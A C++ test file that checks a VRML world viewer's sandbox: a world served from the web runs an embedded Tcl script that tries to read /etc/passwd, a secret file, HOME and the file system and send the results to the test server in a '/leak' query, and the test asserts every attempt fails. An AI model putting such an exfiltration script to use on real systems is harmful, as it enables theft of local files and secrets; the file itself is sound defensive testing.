// tests/shell/web_world_security_test.cpp -- a hostile world served over
// http by the tests' web server: its script tries to read the user's files,
// the environment and the file system and to send what it found to the
// server in the query of a fetch; its inline and its anchor name local
// worlds. Everything fails, and the server's log holds nothing local.
#include <pwd.h>
#include <unistd.h>

#include <cstring>
#include <filesystem>
#include <fstream>
#include <memory>
#include <sstream>

#include "shell/viewinput.h"
#include "tests/shell/program_fixture.h"
#include "tests/web_server.h"

namespace {

class WebWorldSecurity : public ProgramTest {
 protected:
  void SetUp() override {
    ProgramTest::SetUp();
    site = dir + "/site";
    std::filesystem::create_directories(site);
    log = dir + "/requests.log";
    server = std::make_unique<WebServer>(site, log);
    ASSERT_TRUE(server->running());
  }
  void TearDown() override {
    server.reset();
    ProgramTest::TearDown();
  }

  void publish(const std::string& name, const std::string& text) { std::ofstream(site + "/" + name) << text; }

  std::string requests() const {
    std::ifstream in(log);
    std::stringstream text;
    text << in.rdbuf();
    return text.str();
  }

  std::string site, log;
  std::unique_ptr<WebServer> server;
};

TEST_F(WebWorldSecurity, AWorldFromTheWebReachesNothingLocalAndSendsNothingHome) {
  const std::string secretText = "secret-5f1c2a";
  const std::string secretFile = write("secret.txt", secretText);
  const std::string localWorld = write("local.wrl", "#VRML V1.0 ascii\nSeparator { DEF LocalThing Cube { } }\n");
  // Each attempt sends what it got, or "failed", to the server; the last
  // one proves that the channel carries what a script has.
  publish("attack.tcl",
          "proc send {what script} {\n"
          "  if {[catch {uplevel #0 $script} got]} {set got failed}\n"
          "  set data [string map {{ } + \"\\n\" + & + # +} $got]\n"
          "  catch {zmWwwLoadFile " + server->url("leak") + "?$what=$data}\n"
          "}\n"
          "send passwd {set f [open /etc/passwd]; read $f}\n"
          "send secret {set f [open " + secretFile + "]; read $f}\n"
          "send size {file size /etc/passwd}\n"
          "send glob {glob /}\n"
          "send home {set ::env(HOME)}\n"
          "send user {set ::tcl_platform(user)}\n"
          "send local {zmWwwLoadFile file://" + secretFile + "}\n"
          "send control {set x channel-works}\n"
          "proc noop {o e d} {}\n");
  publish("world.wrl",
          "#VRML V1.0 ascii\nSeparator {\n"
          "  SporadicTask { filename \"attack.tcl\" function \"noop\" millisecond 1 scriptType TCL }\n"
          "  DEF Site Cube { }\n"
          "  WWWInline { name \"file://" + localWorld + "\" }\n"
          "  DEF Door WWWAnchor { name \"file://" + localWorld + "\" Cube { } }\n"
          "}\n");
  start(server->url("world.wrl"));
  ZmWorld* world = zmGetCurrentWorld();
  ASSERT_NE(world, nullptr);
  ASSERT_EQ(std::string(world->name), server->url("world.wrl"));

  const std::string seen = requests();
  EXPECT_NE(seen.find("/leak?control=channel-works"), std::string::npos) << seen;
  for (const char* what : {"passwd", "secret", "size", "glob", "home", "local"})
    EXPECT_NE(seen.find(std::string("/leak?") + what + "=failed "), std::string::npos) << what << "\n" << seen;
  EXPECT_NE(seen.find("/leak?user= "), std::string::npos) << seen;  // the name is there, and empty
  std::vector<std::string> local = {secretText, "root:", "/bin/"};
  if (const char* home = std::getenv("HOME"); home != nullptr && std::strlen(home) > 1) local.push_back(home);
  if (const passwd* user = getpwuid(getuid()); user != nullptr && std::strlen(user->pw_name) > 2)
    local.push_back(user->pw_name);
  for (const std::string& data : local) EXPECT_EQ(seen.find(data), std::string::npos) << data << "\n" << seen;

  // The inline is not read, and the anchor, clicked, goes nowhere.
  EXPECT_TRUE(reported("a world from the web cannot read local files"));
  for (ZmTopObjList* top = world->topObjects; top != nullptr; top = top->next)
    EXPECT_EQ(zmFindObjInSubtree(top->object, "LocalThing"), nullptr);
  ASSERT_NE(zmGetViewInputActions().goToUrl, nullptr);
  EXPECT_NE(zmGetViewInputActions().goToUrl(("file://" + localWorld).c_str()), 0);
  pump();
  EXPECT_EQ(zmGetCurrentWorld(), world);
  EXPECT_TRUE(reported("a world from the web cannot open local files"));
}

}  // namespace

namespace {

// The desktop's browser is a stand-in first on PATH that notes its
// arguments in "opened": a web world's anchor to a web page reaches it, one
// to a local page does not.
TEST_F(WebWorldSecurity, AWebWorldsAnchorsReachTheDesktopsBrowserOnlyForWebPages) {
  const std::string bin = dir + "/bin";
  std::filesystem::create_directories(bin);
  std::ofstream(bin + "/xdg-open") << "#!/bin/sh\nprintf '%s\\n' \"$@\" >>'" << dir << "/opened'\n";
  std::filesystem::permissions(bin + "/xdg-open", std::filesystem::perms::owner_all);
  const std::string savedPath = std::getenv("PATH") != nullptr ? std::getenv("PATH") : "";
  setenv("PATH", (bin + ":" + savedPath).c_str(), 1);
  const std::string localPage = write("local.html", "<p>local</p>");
  const std::string webPage = server->url("page.html");
  publish("page.html", "<p>web</p>");
  publish("world.wrl",
          "#VRML V1.0 ascii\nSeparator {\n"
          "  WWWAnchor { name \"" + webPage + "\" Cube { } }\n"
          "  WWWAnchor { name \"file://" + localPage + "\" Sphere { } }\n"
          "}\n");
  start(server->url("world.wrl"));
  ASSERT_NE(zmGetCurrentWorld(), nullptr);

  EXPECT_NE(zmGetViewInputActions().goToUrl(("file://" + localPage).c_str()), 0);
  zmGetViewInputActions().goToUrl(webPage.c_str());
  std::vector<std::string> opened;
  for (int wait = 0; wait < 200 && opened.empty(); ++wait) {
    pump();
    usleep(50 * 1000);
    std::ifstream file(dir + "/opened");
    for (std::string line; std::getline(file, line);) opened.push_back(line);
  }
  setenv("PATH", savedPath.c_str(), 1);
  EXPECT_EQ(opened, std::vector<std::string>{webPage});
  EXPECT_TRUE(reported("a world from the web cannot open local files"));
  EXPECT_EQ(requests().find("page.html"), std::string::npos) << "the desktop's browser fetches the page, not we";
}

}  // namespace
